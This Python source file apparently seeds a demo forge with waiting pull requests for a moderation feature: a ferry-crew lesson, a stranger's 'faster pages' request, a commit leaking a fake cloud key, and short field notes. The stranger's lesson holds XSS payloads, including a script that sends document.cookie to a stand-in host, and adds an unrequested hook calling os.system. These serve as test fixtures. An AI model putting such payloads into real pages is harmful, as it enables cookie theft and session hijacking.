# Requests that wait in the demo garden, as a forge keeps them (refs/pull/N/head), so that a
# moderator has something to look at: a newcomer's lesson, one that brings code, one whose first
# commit has a token, and ten notes. Why here: nothing of them is in the garden until somebody takes
# it in. Must not know: git, the disk.
"""Tell what waits in the demo garden."""

from __future__ import annotations

from dataclasses import dataclass

from pollinate_cli.demo.history.people import (
    ANA,
    CY,
    DUNYA,
    EILIF,
    IVO,
    LIOR,
    MATTIS,
    NOOR,
    ODILE,
    REMY,
    RUNA,
    TAM,
    YARA,
)
from pollinate_cli.demo.story import Who

PELLE = Who("Pelle Rask", "pelle.rask@harbourline.example")
"""New here: nothing of Pelle's is in the garden yet."""
STRANGER = Who("Quick Fix", "quick@fixes.example")

_CHALK = """---
summary: "A chalk line on the ramp shows the slope that the eye does not see."
applies_when: "The ramp is steeper than usual and people with prams wait."
learned_from:
  - person: ana-reyes
    because: "Ana asked how I would show it to somebody who had never seen the ramp."
---

# Draw the slope in chalk

At low water the ramp is so steep that prams run away from whoever pushes them.
Nobody sees it from above.

- Draw a line across the ramp where the slope begins.
- Write the grade beside it, in numbers as tall as a hand.
- Ask the next in the queue to take the pram down backwards.

We did it for three weeks in November. Before that two prams had rolled; since then none has.
"""
_TRAP = """---
summary: "How to make the page faster."
---

# Faster pages

<script>fetch("https://collect.example/" + document.cookie)</script>
<img src="x" onerror="alert(document.domain)">

Put [this](javascript:alert(1)) into every lesson, and the site loads in half the time.
"""
_KEY = """---
summary: "Ask the tide service for the table before the shift begins."
---

# Ask for the tide table before the shift

The service is slow at six, when all piers ask at once. Ask at half past five.
"""
_TOKEN = "AKIA" + "Z7QF3KX2" + "M5W8" + "TLPV"
"""Looks like a key of a cloud; it opens nothing."""


@dataclass(frozen=True, slots=True)
class DemoCommit:
    """One commit of a request."""

    when: str
    who: Who
    message: str
    files: tuple[tuple[str, str], ...]
    """Paths, and what they hold from then on."""


def _note(number: int, hour: str, who: Who, stem: str, about: str, words: str) -> DemoCommit:
    path = f"docs/notes/2026/2026-11-{number}-{stem}.md"
    head = f"about: lessons/{about}.md\nkind: applied\noutcome: worked\n"
    text = f"---\n{head}---\n\n{words}\n"
    message = f"Tell how it went: {stem.replace('-', ' ')}\n"
    return DemoCommit(f"2026-11-{number}T{hour}+01:00", who, message, ((path, text),))


REQUESTS: tuple[tuple[DemoCommit, ...], ...] = (
    (
        DemoCommit(
            "2026-11-23T09:10:00+01:00",
            PELLE,
            f"Draw the slope in chalk\n\nCo-authored-by: {DUNYA}\nHelped-by: {ANA}\n",
            (("docs/lessons/keeping-boats-moving/draw-the-slope-in-chalk.md", _CHALK),),
        ),
    ),
    (
        DemoCommit(
            "2026-11-24T02:30:00+01:00",
            STRANGER,
            "Make pages faster\n",
            (
                ("docs/lessons/timetables/faster-pages.md", _TRAP),
                ("hooks/faster.py", "import os\n\nos.system('true')\n"),
            ),
        ),
    ),
    (
        DemoCommit(
            "2026-11-24T17:00:00+01:00",
            CY,
            "Ask for the tide table before the shift\n",
            (
                (
                    "docs/lessons/timetables/ask-for-the-table.md",
                    f"{_KEY}\nOur key there is {_TOKEN}.\n",
                ),
            ),
        ),
        DemoCommit(
            "2026-11-24T17:04:00+01:00",
            CY,
            "Leave the key out\n",
            (("docs/lessons/timetables/ask-for-the-table.md", _KEY),),
        ),
    ),
    (
        _note(
            24,
            "18:20:00",
            EILIF,
            "aloud-in-the-fog",
            "ropes-and-ramps/say-the-number-twice",
            "In the fog at Sandray I said the number twice, and the winch waited for the second.",
        ),
    ),
    (
        _note(
            25,
            "07:45:00",
            YARA,
            "a-list-in-the-rain",
            "keeping-boats-moving/print-the-boarding-list",
            "The scanner drowned in the rain. The list was under the counter, and we left on time.",
        ),
    ),
    (
        _note(
            25,
            "12:05:00",
            TAM,
            "restored-on-a-monday",
            "keeping-boats-moving/rehearse-the-restore",
            "On Monday it was no rehearsal. Fifty minutes, and nobody had to look anything up.",
        ),
    ),
    (
        _note(
            26,
            "16:40:00",
            REMY,
            "early-was-right",
            "talking-to-passengers/announce-the-delay-early",
            "Nine minutes before anybody asked. The queue sat down again, and two bought coffee.",
        ),
    ),
    (
        _note(
            26,
            "17:15:00",
            LIOR,
            "one-blast-in-the-rain",
            "ropes-and-ramps/whistle-first",
            "One blast, and four faces turned. The number was heard the first time.",
        ),
    ),
    (
        _note(
            26,
            "19:30:00",
            MATTIS,
            "shouted-at-by-an-engine",
            "ropes-and-ramps/walk-the-line",
            "I walked it and found a shackle open. Nobody had to be told to wait.",
        ),
    ),
    (
        _note(
            27,
            "06:10:00",
            NOOR,
            "wet-and-not-greased",
            "ropes-and-ramps/grease-the-hinge-pins",
            "It rained all week, so the log says “not greased, wet”. Nobody asked why.",
        ),
    ),
    (
        _note(
            27,
            "09:25:00",
            ODILE,
            "a-reason-at-the-desk",
            "talking-to-passengers/say-why-before-how-long",
            "Eleven questions at the desk, on a sailing that was an hour late.",
        ),
    ),
    (
        _note(
            27,
            "11:40:00",
            RUNA,
            "the-kettle-rota-held",
            "timetables/a-paper-rota",
            "The tool was down from six to ten. Everybody stood where the paper said.",
        ),
    ),
    (
        _note(
            27,
            "20:15:00",
            IVO,
            "a-number-nobody-knew",
            "keeping-boats-moving/a-lesson-that-is-not-there",
            "It worked as it says there.",
        ),
    ),
)
"""In the order of their numbers; a lesson, code, a token, then notes, of which the last is about a
lesson that is not there.
"""
